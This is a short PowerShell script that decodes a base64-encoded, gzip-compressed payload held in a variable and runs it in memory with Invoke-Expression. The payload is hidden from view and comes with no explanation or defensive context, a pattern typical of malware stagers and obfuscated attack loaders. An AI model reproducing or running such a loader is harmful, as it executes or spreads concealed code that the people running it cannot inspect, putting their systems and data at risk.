Set-StrictMode -Off
$p = 'H4sIAAAAAAAC/02PwWqDQBRF937FLF7rDNVBTSxthgm00pZASUoNdCEuoj7itFbBmRBLkn+v2gS6e3Af554LuVzi3l1ln5gbskTD4yb/QqP5OnqLKoW1obZ/H3CPB9wPPdu5m04nTICWkPMXNLFpcfNNmUiyH4NJmkImPc5vw3ASHq8O3klY+1JVSCkoCZq/46agkDmeAxl/xXprSsaIWyPx2AEKSf/prLEz/CGOFounOm8KVW/ZubI/zxDFhAWNpAo7AgUJ5tf+cbUz7t9TL9pKaG7sObEFdJImI/OCS2ezET9iH3t/TaEdxvGPVhmk0A0V3cVzCJ6rnS4pO4l+flQ1GimzfgEaER7IRQEAAA=='
IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String($p))), [IO.Compression.CompressionMode]::Decompress))).ReadToEnd()
